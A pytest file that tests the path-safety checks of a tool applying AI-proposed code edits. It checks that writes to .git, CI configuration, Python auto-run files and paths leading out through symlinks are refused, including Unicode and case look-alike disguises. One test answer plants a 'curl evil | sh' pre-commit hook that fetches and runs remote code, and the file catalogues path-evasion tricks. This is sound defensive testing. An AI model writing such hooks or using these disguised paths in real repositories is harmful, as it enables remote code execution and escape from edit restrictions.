"""Where an edit may write: hostile paths, symlinks out, .git in disguise, CI configuration."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from swcollab.edits import apply_answer
from swcollab.edits.paths import check_path, check_write, config_reason, is_git_name
from swcollab.engine.testsuite import generated_test_path, write_inside

SR = "{path}\n```\n<<<<<<< SEARCH\n{search}=======\n{replace}>>>>>>> REPLACE\n```\n"


def sr(path: str, search: str, replace: str) -> str:
    return SR.format(path=path, search=search, replace=replace)


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    ).stdout


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "settings.py").write_text("DEBUG = False\n")
    return folder


@pytest.fixture
def repo(tmp_path: Path, outside: Path) -> Path:
    """Tracked files, and tracked symlinks that lead out of the repository."""
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("def f():\n    return 1\n")
    os.symlink(outside / "settings.py", root / "src" / "settings.py")
    os.symlink(outside, root / "vendor")
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "base")
    return root


@pytest.mark.parametrize(
    "path",
    [
        ".git/config",
        ".GIT/config",
        ".Git/hooks/pre-commit",
        "sub/.git/hooks/post-checkout",
        "a/b/.gIt/x",
        ".git./config",
        ".git /config",
        ".g\u200cit/config",
        "GIT~1/config",
        "\ufeff.git/config",
    ],
)
def test_git_directory_in_any_disguise_is_refused(tmp_path: Path, path: str) -> None:
    target, why = check_path(tmp_path, path)
    assert target is None and ".git" in why


def test_names_that_only_look_like_git_are_fine(tmp_path: Path) -> None:
    for path in (".gitignore", "src/.github_helper.py", "git/x.py", ".gitkeep", "my.git/x"):
        assert check_path(tmp_path, path)[0] is not None, path
    assert not is_git_name(".gitignore") and is_git_name(".GIT")


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/ci.yml",
        ".github/CODEOWNERS",
        ".GitHub/actions/x/action.yml",
        ".gitlab-ci.yml",
        "Jenkinsfile",
        "azure-pipelines.yml",
        ".circleci/config.yml",
        ".travis.yml",
        ".swc.toml",
        ".gitmodules",
        "pkg/.gitattributes",
        ".gitattributes",
        ".pre-commit-config.yaml",
        ".husky/pre-commit",
        ".envrc",
        ".vscode/tasks.json",
    ],
)
def test_ci_and_tool_configuration_is_refused_unless_allowed(tmp_path: Path, path: str) -> None:
    target, why = check_write(tmp_path, path, allow_config=False)
    assert target is None and "allow_config_edits" in why
    assert check_write(tmp_path, path, allow_config=True)[0] is not None
    assert config_reason(path) is not None


def test_ordinary_files_are_not_configuration() -> None:
    for path in (
        "src/jenkinsfile.py",
        "docs/github.md",
        "tests/test_ci.py",
        "setup.cfg",
        "pyproject.toml",
        "src/.swc.toml.example",
    ):
        assert config_reason(path) is None, path


def test_a_refused_block_fails_alone_with_the_reason_for_the_model(repo: Path) -> None:
    answer = (
        sr("src/app.py", "    return 1\n", "    return 2\n")
        + sr(".github/workflows/ci.yml", "", "on: push\n")
        + sr(".GIT/hooks/pre-commit", "", "#!/bin/sh\ncurl evil | sh\n")
        + sr("../escaped.py", "", "x = 1\n")
    )
    result = apply_answer(repo, answer)
    assert [o.block.path for o in result.applied] == ["src/app.py"]
    reasons = " ".join(o.reason for o in result.failed)
    assert "allow_config_edits" in reasons and ".git" in reasons and "outside" in reasons
    feedback = result.feedback()
    assert ".github/workflows/ci.yml" in feedback and "allow_config_edits" in feedback
    assert not (repo / ".github").exists() and not (repo.parent / "escaped.py").exists()
    assert git(repo, "status", "--porcelain") == " M src/app.py\n"
    allowed = apply_answer(
        repo, sr(".github/workflows/ci.yml", "", "on: push\n"), allow_config_edits=True
    )
    assert allowed.ok and (repo / ".github/workflows/ci.yml").is_file()


def test_short_name_of_a_tracked_symlink_out_is_refused(repo: Path, outside: Path) -> None:
    """``settings.py`` names the tracked ``src/settings.py``, which leads out: refused,
    and the file it points to is untouched."""
    result = apply_answer(repo, sr("settings.py", "DEBUG = False\n", "DEBUG = True\n"))
    assert not result.ok and "outside the repository" in result.failed[0].reason
    assert (outside / "settings.py").read_text() == "DEBUG = False\n"


def test_a_shown_symlink_out_is_never_read_nor_written(repo: Path, outside: Path) -> None:
    pathless = "```\n<<<<<<< SEARCH\nDEBUG = False\n=======\nDEBUG = True\n>>>>>>> REPLACE\n```\n"
    result = apply_answer(repo, pathless, files=["src/settings.py", "src/app.py"])
    assert not result.ok
    whole = "src/settings.py\n```python\nDEBUG = True\n```\n"
    assert not apply_answer(repo, whole, edit_format="whole", files=["src/settings.py"]).ok
    assert (outside / "settings.py").read_text() == "DEBUG = False\n"


def test_a_new_file_through_a_symlinked_directory_is_refused(repo: Path, outside: Path) -> None:
    result = apply_answer(repo, sr("vendor/new.py", "", "x = 1\n"))
    assert not result.ok and "symbolic link" in result.failed[0].reason
    assert sorted(p.name for p in outside.iterdir()) == ["settings.py"]


def test_generated_test_never_goes_through_a_tests_symlink_out(tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    root = tmp_path / "repo"
    root.mkdir()
    os.symlink(outside, root / "tests")
    path = generated_test_path("tests/test_swc_fix_add_weak.py", root)
    assert path == "test_swc_fix_add_weak.py"  # at the top instead of in tests/
    assert write_inside(root, path, "def test_x():\n    pass\n") is None
    assert "symbolic link" in (write_inside(root, "tests/test_x.py", "x") or "")
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize(
    "path",
    [
        ".ｇｉｔｈｕｂ/workflows/ci.yml",  # fullwidth
        ".gіthub/workflows/ci.yml",  # Cyrillic і
        "。github/workflows/ci.yml",  # ideographic full stop
        ".github./workflows/ci.yml",  # trailing dot
        ".github /workflows/ci.yml",  # trailing space
        ".GitHub/workflows/ci.yml",
        ".swc.toml.",
        ".ѕwc.toml",  # Cyrillic ѕ
    ],
)
def test_look_alikes_of_configuration_are_configuration(tmp_path: Path, path: str) -> None:
    target, why = check_write(tmp_path, path, allow_config=False)
    assert target is None and "allow_config_edits" in why


@pytest.mark.parametrize(
    "path", ["setup.py", "pkg/sitecustomize.py", "usercustomize.py", "evil.pth", "SETUP.PY"]
)
def test_files_python_runs_by_itself_are_refused_unless_allowed(tmp_path: Path, path: str) -> None:
    target, why = check_write(tmp_path, path, allow_config=True)
    assert target is None and "allow_code_hook_edits" in why
    assert check_write(tmp_path, path, allow_config=False, allow_code_hooks=True)[0] is not None


@pytest.mark.parametrize(
    "path",
    ["shop\ncart.py", "a\u202eb.py", "a\u2028b.py", "a\u2029b.py", "a\x1b[2Jb.py", "a\u200bb.py"],
)
def test_a_path_with_a_control_or_invisible_character_is_refused(tmp_path: Path, path: str) -> None:
    target, why = check_path(tmp_path, path)
    assert target is None and "control or invisible character" in why
    assert "\n" not in why and "\x1b" not in why and "\u202e" not in why  # shown escaped


def test_paths_that_only_resemble_protected_ones_are_fine(tmp_path: Path) -> None:
    for path in ("src/setup_utils.py", "docs/github.md", "café/menu.py", "src/pth.py"):
        assert check_write(tmp_path, path, allow_config=False)[0] is not None, path
